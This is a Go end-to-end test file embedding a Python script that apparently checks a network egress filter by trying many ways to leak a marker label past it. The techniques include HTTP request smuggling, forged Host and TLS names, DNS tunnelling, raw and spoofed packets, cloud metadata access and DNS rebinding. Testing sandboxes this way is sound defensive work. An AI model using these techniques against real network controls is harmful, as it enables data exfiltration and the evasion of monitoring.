package e2e

// leaker tries to get a label out in every way that it knows, and prints the names of its attempts as JSON. The label is in
// a packet of the attempt that a name or an address should have stopped. Its positive control runs on the host.
const leaker = `
import http.client, json, os, socket, ssl, struct, sys, threading
internet, far, lan, metadata, server, allowed, forbidden = sys.argv[1:]
attempts = {}
def attempt(f): attempts[f.__name__] = f; return f
def leak(f): return "leak-" + f.__name__
def udp(to, port, payload, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(payload, (to, port))
    return s
def tcp(to, port, payload, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect((to, port))
    s.sendall(payload)
    try: return s.recv(4000)
    finally: s.close()
def query(name, kind=1):
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">B2H", 0, kind, 1)
def look(name):
    s = udp(server, 53, query(name))
    b = s.recv(1000)
    return socket.inet_ntoa(b[-4:]) if struct.unpack(">H", b[6:8])[0] else None
def get(to, target, host, port=80):
    return tcp(to, port, ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, host)).encode())
def tls(to, name, port=443, send=None, hostname=True):
    c = ssl._create_unverified_context()
    raw = socket.create_connection((to, port), 2)
    s = c.wrap_socket(raw, server_hostname=name)
    if send:
        s.sendall(send.encode())
        return s.recv(4000)
def raw(proto, to, payload, source=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto if source is None else socket.IPPROTO_RAW)
    if source is not None:
        payload = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, socket.inet_aton(source), socket.inet_aton(to)) + payload
    s.sendto(payload, (to, 0))
def datagram(payload): return struct.pack(">4H", 5000, 5000, 8 + len(payload), 0) + payload
def checksum(b):
    total = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def echo(payload):
    payload += b" " * (len(payload) % 2)
    head = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    return struct.pack(">BBHHH", 8, 0, checksum(head + payload), 1, 1) + payload

@attempt
def udphigh(l): udp(far, 5000, l.encode())
@attempt
def udpquic(l): udp(far, 443, l.encode())
@attempt
def udpallowedbyothername(l): udp(far, 80, l.encode())
@attempt
def udplarge(l): udp(far, 5000, l.encode() + b" " * 3000)
@attempt
def udpmapped(l): udp("::ffff:" + far, 5000, l.encode(), socket.AF_INET6)
@attempt
def udpsix(l): udp("2001:db8::2", 5000, l.encode(), socket.AF_INET6)
@attempt
def tcpmapped(l): tcp("::ffff:" + far, 80, ("GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n" % (l, far)).encode(), socket.AF_INET6)
@attempt
def httpaddress(l): get(far, "/" + l, far)
@attempt
def httpothername(l): get(internet, "/" + l, forbidden)
@attempt
def httpotherport(l): get(internet, "/" + l, allowed + ":81")
@attempt
def httpabsolute(l): get(internet, "http://%s/%s" % (forbidden, l), allowed)
@attempt
def httppipelined(l): tcp(internet, 80, ("GET / HTTP/1.1\r\nHost: %s\r\n\r\nGET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (allowed, l, forbidden)).encode())
@attempt
def httpconnect(l): tcp(internet, 80, ("CONNECT %s.example:443 HTTP/1.1\r\nHost: %s.example:443\r\n\r\n" % (l, l)).encode())
@attempt
def httptwohosts(l): tcp(internet, 80, ("GET /%s HTTP/1.1\r\nHost: %s\r\nHost: %s\r\n\r\n" % (l, allowed, forbidden)).encode())
@attempt
def httpnohost(l): tcp(internet, 80, ("GET /%s HTTP/1.0\r\n\r\n" % l).encode())
@attempt
def httpsmuggled(l): tcp(internet, 80, ("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (allowed, l, forbidden)).encode())
@attempt
def notweb(l): tcp(internet, 80, l.encode() + b"\n")
@attempt
def httpredirected(l):
    answer = tls(look(allowed), allowed, send="GET /away/%s HTTP/1.0\r\nHost: %s\r\n\r\n" % (l[5:], allowed)).decode()
    where = answer.split("ocation: http://")[1].split("\r\n")[0].split("/")
    get(look(where[0]) or internet, "/" + where[1], where[0])
@attempt
def tlsothername(l): tls(internet, l + ".example")
@attempt
def tlsfar(l): tls(far, l + ".example")
@attempt
def tlsotherport(l): tls(far, l + ".example", 80)
@attempt
def tlsdns(l): tls(server, l + ".example", 853)
@attempt
def tlsencryptedname(l):
    c = ssl._create_unverified_context()
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    s = c.wrap_bio(i, o, server_hostname=allowed)
    try: s.do_handshake()
    except ssl.SSLWantReadError: pass
    b = o.read()
    ech = struct.pack(">HH", 0xfe0d, len(l)) + l.encode() # The extension with a second, encrypted name.
    at = 9 + 2 + 32                                       # Of the session id.
    at += 1 + b[at]
    at += 2 + struct.unpack(">H", b[at:at + 2])[0]
    at += 1 + b[at]
    extensions = struct.unpack(">H", b[at:at + 2])[0] + len(ech)
    hello = b[9:at] + struct.pack(">H", extensions) + b[at + 2:] + ech
    body = b"\x01" + struct.pack(">I", len(hello))[1:] + hello
    tcp(internet, 443, b"\x16\x03\x01" + struct.pack(">H", len(body)) + body)
@attempt
def dnsothername(l): udp(server, 53, query(l + "." + forbidden))
@attempt
def dnstext(l): udp(server, 53, query(l + "." + forbidden, 16))
@attempt
def dnsreverse(l): udp(server, 53, query(l + ".in-addr.arpa", 12))
@attempt
def dnsotherserver(l): udp(far, 53, query(l + "." + forbidden))
@attempt
def dnsbytcp(l):
    q = query(l + "." + forbidden)
    tcp(server, 53, struct.pack(">H", len(q)) + q)
@attempt
def dnsnotdns(l): udp(server, 53, l.encode())
@attempt
def dnsbehindanother(l): udp(server, 53, query(allowed) + query(l + "." + forbidden))
@attempt
def ping(l): raw(1, far, echo(l.encode()))
@attempt
def pinglan(l): raw(1, lan, echo(l.encode()))
@attempt
def sctp(l): raw(132, far, l.encode())
@attempt
def gre(l): raw(47, far, l.encode())
@attempt
def ipip(l): raw(4, far, l.encode())
@attempt
def spoofed(l): raw(17, far, datagram(l.encode()), "9.9.9.200")
@attempt
def spoofedneighbour(l): raw(17, far, datagram(l.encode()), "10.200.0.2")
@attempt
def privatelan(l): udp(lan, 5000, l.encode())
@attempt
def privatemetadata(l): get(metadata, "/" + l, allowed)
@attempt
def router(l): udp("10.200.0.1", 53, query(l + "." + forbidden))

def rebound():
    for _ in range(3):
        to = look("rebind." + allowed)
        if to: get(to, "/rebound", "rebind." + allowed)
        if to: udp(to, 5000, b"rebound")
names, workers = list(attempts), []
def work(name):
    try: attempts[name]("leak-" + name)
    except Exception as e: sys.stderr.write("%s: %r\n" % (name, e))
for name in names:
    t = threading.Thread(target=work, args=(name,))
    t.start()
    workers.append(t)
for t in workers: t.join()
try: rebound()
except Exception as e: sys.stderr.write("rebound: %r\n" % e)
print(json.dumps(names))
`
